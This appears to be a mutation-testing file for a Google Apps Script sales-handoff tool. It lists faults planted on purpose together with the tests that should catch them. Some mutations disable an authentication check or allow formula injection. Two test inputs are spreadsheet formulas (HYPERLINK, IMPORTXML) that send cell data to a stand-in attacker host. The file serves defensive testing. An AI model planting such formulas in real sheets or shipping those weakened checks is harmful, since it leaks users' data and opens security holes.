// biome-ignore-all lint/suspicious/noTemplateCurlyInString: pieces of source are texts here.

import type { Act, Deed } from '../lives/actions';
import { REGRESSIONS } from '../lives/regressions';
import { faulty, type Hunt, hostile, inTheWay, killed, listened, lived, scenario, told } from './hunts';
import type { Plant } from './plant';

/** A fault that somebody might make in Baton's source, and the trial that ought to notice it. */
export interface Fault extends Plant {
  readonly name: string;
  /** What it goes against: decisions of design.md by number, traps of the platform by number, or a promise. */
  readonly breaks: readonly string[];
  readonly hunt: Hunt;
}

const soon = (act: Act): Deed => ({ minutes: 6, act, trouble: { kind: 'none' } });
const SALE: readonly Deed[] = [
  soon({ do: 'add', deal: 0, segment: 0, stage: 3, seller: 0 }),
  soon({ do: 'form', deal: 0, how: 'well' }),
  soon({ do: 'stage', deal: 0, to: 'Closed Won' }),
];

const DECISIONS = 'test/engine/decisions.test.ts';

export const FAULTS: readonly Fault[] = [
  // ---- 1: reconcile, never react
  {
    name: 'a tick looks only where an edit has left its mark',
    breaks: ['decision 1', 'trap 7'],
    file: 'engine/engineRun.ts',
    from: `  const rest = readRest(host.memory);\n`,
    to: `  if (cause === 'tick' && host.marks.get('look again') === null) return;\n  const rest = readRest(host.memory);\n`,
    hunt: scenario(DECISIONS, 'decision 1: reconcile, never react comes to the same end'),
  },
  {
    name: 'an edit that brings no value, as a paste, is passed over',
    breaks: ['decision 1', 'trap 6'],
    file: 'triggers/edit.ts',
    from: `  if (!range || decides === undefined) return false;\n`,
    to: `  if (!range || decides === undefined || event.value === undefined) return false;\n`,
    hunt: scenario(DECISIONS, 'decision 1: reconcile, never react looks at once at a paste'),
  },
  // ---- 2: one snapshot in, one commit out
  {
    name: 'cells of people’s tabs and lines of the ledger are written in two calls',
    breaks: ['decision 2', 'trap 24'],
    file: 'sheets/commit.ts',
    from: `  const answers = update(api, snapshot.config.spreadsheetId, requests, readBack);\n`,
    to: `  const isLine = (request: object) => 'appendCells' in request;
  update(api, snapshot.config.spreadsheetId, requests.filter((one) => !isLine(one)), []);
  const answers = update(api, snapshot.config.spreadsheetId, requests.filter(isLine), readBack);\n`,
    hunt: killed({ segment: 'Starter', calls: /^Sheets\.batchUpdate$/ }),
  },
  {
    name: 'a text that begins with = is written as a formula',
    breaks: ['decision 2', 'trap 13'],
    file: 'sheets/batch.ts',
    from: `    if (typeof out === 'string') return out === '' ?`,
    to: `    if (typeof out === 'string' && out.startsWith('=')) return { userEnteredValue: { formulaValue: out } };
    if (typeof out === 'string') return out === '' ?`,
    hunt: hostile('=HYPERLINK("https://evil.example/?"&A1,"Open")'),
  },
  {
    name: 'quotes are not doubled in the formulas that Baton writes itself',
    breaks: ['decision 2', 'trap 13'],
    file: 'sheets/batch.ts',
    from: `text.replace(/"/g, '""').slice(0, 8_000)`,
    to: `text.slice(0, 8_000)`,
    hunt: hostile('"&IMPORTXML("http://evil.example",A1)&"'),
  },
  // ---- 3: a key for everything that happens
  {
    name: 'the key of a step is made without the step',
    breaks: ['decision 3'],
    file: 'reconcile/rules/steps.ts',
    from: '  `${handoff.key}/${step.id}${step.repeat',
    to: '  `${handoff.key}/step${step.repeat',
    hunt: lived(1, 2, 3),
  },
  {
    name: 'a reminder is forgotten once its row is in the archive',
    breaks: ['decision 3'],
    file: 'reconcile/rules/escalate.ts',
    from: `if (there || handoff.facts[step] !== undefined || !notices`,
    to: `if (there || !notices`,
    hunt: told(REGRESSIONS[0]!.name, REGRESSIONS[0]!.plan),
  },
  {
    name: 'a copy of the spreadsheet goes on mailing',
    breaks: ['decision 3', 'decision 11'],
    file: 'engine/engineRun.ts',
    from: `  if (config.ownSpreadsheetId !== config.spreadsheetId) return 'a copy';\n`,
    to: '',
    hunt: scenario(DECISIONS, 'decision 3: a key for everything that happens does nothing on a copy'),
  },
  // ---- 4: write down before doing, look before doing again
  {
    name: 'a mail is sent before the ledger says that it is being sent',
    breaks: ['decision 4', 'trap 24'],
    file: 'outbox/mail.ts',
    from: `  return { ...entry, state: 'sending', updatedAt: delivery.now() };\n}`,
    to: `  delivery.drafts.send(entry.reference);\n  return done(entry, delivery.now());\n}`,
    hunt: killed({ segment: 'Starter', calls: /^Gmail/ }),
  },
  {
    name: 'after a crash no draft is looked for before another is made',
    breaks: ['decision 4', 'trap 24'],
    file: 'outbox/mail.ts',
    from: `mayBeThere ? delivery.drafts.find(outsideKey(delivery, entry)) : null;`,
    to: `mayBeThere ? null : null;`,
    hunt: killed({ segment: 'Starter', calls: /^Gmail\.create$/ }),
  },
  {
    name: 'after a crash nobody looks whether the mail has left',
    breaks: ['decision 4', 'trap 21'],
    file: 'outbox/mail.ts',
    from: `  if (!delivery.isFresh(entry) && !delivery.drafts.exists(entry.reference)) return done(entry, delivery.now());\n`,
    to: '',
    hunt: killed({ segment: 'Starter', calls: /^Gmail\.send$/ }),
  },
  {
    name: 'a retry forgets which draft it had made',
    breaks: ['decision 4', 'trap 21'],
    file: 'outbox/mail.ts',
    from: `        return afterError(entry, error, delivery.now());\n`,
    to: `        return afterError({ ...entry, state: 'pending', reference: '' }, error, delivery.now());\n`,
    hunt: faulty({ segment: 'Starter', calls: /^Gmail\.send$/, message: 'Internal error encountered.', applied: true }),
  },
  {
    name: 'a folder gets a new id with each attempt',
    breaks: ['decision 4', 'trap 28'],
    file: 'outbox/folder.ts',
    from: `const reserved = entry.reference ? null : delivery`,
    to: `const reserved = delivery`,
    hunt: killed({ segment: 'Starter', calls: /^Drive\.create$/ }),
  },
  {
    name: 'a document is copied again without a look for the first copy',
    breaks: ['decision 4', 'trap 28'],
    file: 'outbox/document.ts',
    from: `  if (there) return there;\n`,
    to: '',
    hunt: killed({ segment: 'Starter', calls: /^Drive\.copy$/ }),
  },
  {
    name: 'a document is copied again at once, though Drive’s search lags',
    breaks: ['decision 4', 'trap 28'],
    file: 'outbox/document.ts',
    from: `  throw new RetryableError(LOOKS_FIRST, Math.max(0, SEARCH_LAG_MS - age));`,
    to: `  return age < 0 ? '' : make(key);`,
    hunt: killed({ segment: 'Starter', calls: /^Drive\.copy$/, isSoon: true }),
  },
  {
    name: 'a request that was killed in flight is sent again',
    breaks: ['decision 4', 'trap 24'],
    file: 'outbox/webhook.ts',
    from: `const interrupted = entries.filter((entry) => !delivery.isFresh(entry));
    const ready = entries.filter((entry) => delivery.isFresh(entry));`,
    to: `const interrupted: OutboxEntry[] = [];
    const ready = entries;`,
    hunt: killed({ segment: 'Starter', calls: /^UrlFetchApp/ }),
  },
  {
    name: 'a request without an answer counts as not arrived',
    breaks: ['decision 4', 'trap 21'],
    file: 'webhooks/fetchWebhooks.ts',
    from: `isOpen: !/^(Address unavailable|DNS error)/i.test(message) || !message.includes(url),`,
    to: `isOpen: message === url,`,
    hunt: faulty({
      segment: 'Starter',
      calls: /^UrlFetchApp/,
      message: 'Timeout: https://hooks.northwind.example/access',
      applied: true,
    }),
  },
  {
    name: 'a run takes what the killed one left for its own work',
    breaks: ['decision 4', 'trap 24'],
    file: 'engine/run.ts',
    from: 'isFresh: (entry) => this.fresh.has(`${entry.key}@${entry.state}`),',
    to: 'isFresh: () => true,',
    hunt: killed({ segment: 'Starter', calls: /^Gmail\.create$/ }),
  },
  {
    name: 'an event’s id follows the moment in place of the key',
    breaks: ['decision 4', 'trap 22'],
    file: 'outbox/event.ts',
    from: '  eventId(`${outsideKey(delivery, entry)}$',
    to: '  eventId(`${delivery.now()}/${outsideKey(delivery, entry)}$',
    hunt: killed({ segment: 'Pro', calls: /^Calendar\.insert$/ }),
  },
  {
    name: 'an event’s id keeps the dash that Calendar refuses',
    breaks: ['decision 4', 'trap 22'],
    file: 'outbox/event.ts',
    from: '.replace(/[^a-v0-9]/g,',
    to: '.replace(/[^a-v0-9-]/g,',
    hunt: lived(2),
  },
  // ---- 5: people's cells are theirs
  {
    name: 'a row is addressed by its number, whatever stands there by then',
    breaks: ['decision 5', 'trap 32'],
    file: 'sheets/commit.ts',
    from: `    ...movedWrites(snapshot, checked, answers, layout).filter((write) => !shifted.some((one) => one.write === write)),\n`,
    to: '',
    hunt: inTheWay({ act: 'sorts backwards on Pipeline', from: 9, to: 9 }),
  },
  {
    name: 'what a write has hit by mistake is not put back',
    breaks: ['decision 5', 'trap 32'],
    file: 'sheets/commit.ts',
    from: `  if (moved.length > shifted.length) putBack(api, input, moved.slice(shifted.length), answers);\n`,
    to: '',
    hunt: inTheWay({ act: 'sorts backwards on Pipeline', from: 9, to: 9 }),
  },
  {
    name: 'a column is addressed by its number, whatever stands there by then',
    breaks: ['decision 5', 'decision 2'],
    file: 'sheets/commit.ts',
    from: `  const shifted = shiftedWrites(checked, answers, layout);\n`,
    to: `  const shifted = shiftedWrites([], answers, layout);\n`,
    hunt: inTheWay({ event: 'session', act: 'inserts a column on Pipeline', from: 4, to: 9 }),
  },
  {
    name: 'a row’s identity is not looked at again before a mail leaves',
    breaks: ['decision 5'],
    file: 'sheets/movedRows.ts',
    from: `    if (!isSame) found.add(deal.id);\n`,
    to: '',
    hunt: scenario('test/hostile/moved.test.ts', 'writes to the address that stands there by then'),
  },
  {
    name: 'the engine tidies what a person has typed',
    breaks: ['decision 5'],
    file: 'reconcile/rules/intake.ts',
    from: `  if (deal.closeDate === '')\n`,
    to: `  draft.writeDeal(deal, { Company: deal.company.toUpperCase() });\n  if (deal.closeDate === '')\n`,
    hunt: lived(1, 2, 3),
  },
  // ---- 6: who did it is proved by Google or not used
  {
    name: 'an exception counts as soon as somebody has typed a reason for it',
    breaks: ['decision 6'],
    file: 'reconcile/rules/gate.ts',
    from: `open.length > 0 && approval?.isApproved === true && canBeExcused(open);`,
    to: `open.length > 0 && (approval?.isApproved === true || deal.overrideReason !== '') && canBeExcused(open);`,
    hunt: scenario(DECISIONS, 'decision 6'),
  },
  {
    name: 'a page may be called by somebody whom Google does not name',
    breaks: ['decision 6', 'trap 8'],
    file: 'app.ts',
    from: `  if (active === '' || active !== Session.getEffectiveUser().getEmail())\n`,
    to: `  if (active === 'nobody')\n`,
    hunt: scenario('test/ui/shell.test.ts', 'refuses strangers'),
  },
  // ---- 9: facts, not flags
  {
    name: 'a due time is written in UTC and not as the spreadsheet’s clock shows it',
    breaks: ['decision 9', 'trap 14'],
    file: 'sheets/batch.ts',
    from: `numberValue: instantToSerial(out.at, this.snapshot.config.zone)`,
    to: `numberValue: instantToSerial(out.at, 'UTC')`,
    hunt: told('a deal that is won on its first morning', { start: 0, deeds: [...SALE] }),
  },
  {
    name: 'a fact takes the time of the last look in place of the first',
    breaks: ['decision 9'],
    file: 'reconcile/draft.ts',
    from: `.filter(([name]) => handoff.facts[name] === undefined);`,
    to: `.filter(([name, at]) => handoff.facts[name] !== at);`,
    hunt: lived(1, 2, 3),
  },
  // ---- 10: history is not news
  {
    name: 'a deal that is won when first seen starts whatever its Close date',
    breaks: ['decision 10'],
    file: 'reconcile/rules/start.ts',
    from: `if (known === undefined ? !isNews(draft, deal) : wonInPilot(draft, deal)) {`,
    to: `if (known !== undefined && wonInPilot(draft, deal)) {`,
    hunt: scenario(DECISIONS, 'decision 10: history is not news starts nothing'),
  },
  {
    name: 'a test becomes real once the board goes live',
    breaks: ['decision 10'],
    file: 'outbox/mail.ts',
    from: `const isTest = entry.detail.isTest === true && audience`,
    to: `const isTest = config.mode === 'test' && audience`,
    hunt: scenario(DECISIONS, 'decision 10: history is not news sends a test'),
  },
  // ---- 11: one owner
  {
    name: 'a trigger of another account goes on',
    breaks: ['decision 11', 'trap 8'],
    file: 'engine/engineRun.ts',
    from: `  if (config.owner !== account.toLowerCase()) return 'not the owner';\n`,
    to: '',
    hunt: scenario(DECISIONS, 'decision 11'),
  },
  {
    name: 'the heartbeat stands still while the engine runs',
    breaks: ['decision 11'],
    file: 'reconcile/rules/own.ts',
    from: `if (isBeat(config, draft.now)) write('last_run', { at: draft.now });`,
    to: `if (isBeat(config, draft.now)) write('last_run', { at: config.lastRunAt ?? draft.now });`,
    hunt: listened(),
  },
  {
    name: 'the deputy’s account waits three days before it says that the engine is silent',
    breaks: ['decision 11'],
    file: 'setup/deputy.ts',
    from: `const SILENT_MS = 3 * 60 * 60_000;`,
    to: `const SILENT_MS = 72 * 60 * 60_000;`,
    hunt: listened(),
  },
  // ---- 12: the lock is short and never lost
  {
    name: 'a run goes on without the lock',
    breaks: ['decision 12', 'trap 23'],
    file: 'engine/engineRun.ts',
    from: `  if (!host.lock.tryLock(1_000)) {\n`,
    to: `  if (!host.lock.tryLock(1_000) && cause === 'nobody') {\n`,
    hunt: inTheWay({ act: null, from: 7, to: 26 }),
  },
  {
    name: 'the lock is let go before anything is written',
    breaks: ['decision 12', 'trap 12'],
    file: 'engine/engineRun.ts',
    from: `    const deadline = host.now() + RUN_BUDGET_MS;\n`,
    to: `    const deadline = host.now() + RUN_BUDGET_MS;\n    host.lock.release();\n`,
    hunt: inTheWay({ act: null, from: 7, to: 26 }),
  },
  {
    name: 'the holder of the lock does not look for the mark',
    breaks: ['decision 12', 'trap 23'],
    file: 'engine/engineRun.ts',
    from: `      if (host.marks.get('look again') === null) return;\n`,
    to: `      return;\n`,
    hunt: scenario(DECISIONS, 'decision 12: the lock is short and never lost sees what is typed'),
  },
  {
    name: 'code older than the ledger writes into it',
    breaks: ['decision 12'],
    file: 'engine/engineRun.ts',
    from: `  if (config.schema > SCHEMA) return 'older than the ledger';\n`,
    to: '',
    hunt: scenario(DECISIONS, 'decision 12: the lock is short and never lost writes nothing'),
  },
  // ---- what else a script meets on Google
  {
    name: 'a protected range ends the whole run',
    breaks: ['trap 11'],
    file: 'sheets/commit.ts',
    from: `    throw struck.length > 0 ? new ShutOutError(struck) : error;\n`,
    to: `    throw error;\n`,
    hunt: scenario('test/hostile/shut.test.ts', 'a protected range that keeps Baton itself out is said in words'),
  },
  {
    name: 'mails leave while Baton is paused',
    breaks: ['no surprise mail'],
    file: 'engine/engineRun.ts',
    from: `  if (config.isPaused) return 'paused';\n`,
    to: '',
    hunt: told('a deal won while Baton is paused', {
      start: 0,
      deeds: [...SALE.slice(0, 2), soon({ do: 'pause', on: true }), ...SALE.slice(2)],
    }),
  },
  {
    name: 'what cannot be done is dropped without a word',
    breaks: ['nothing lost'],
    file: 'outbox/settle.ts',
    from: `      state: 'needsYou',
      attempts,
      error: \`\${error.message}\\n\${error.fix}\`,`,
    to: `      state: 'done',
      attempts,
      error: \`\${error.message}\\n\${error.fix}\`,`,
    hunt: faulty({ segment: 'Starter', calls: /^Gmail\.create$/, message: 'Invalid email: mila@' }),
  },
  {
    name: 'what is uncertain does not stand on Problems',
    breaks: ['nothing lost'],
    file: 'reconcile/reconcile.ts',
    from: `  outboxProblems(draft, deals);\n`,
    to: '',
    hunt: killed({ segment: 'Starter', calls: /^UrlFetchApp/ }),
  },
];
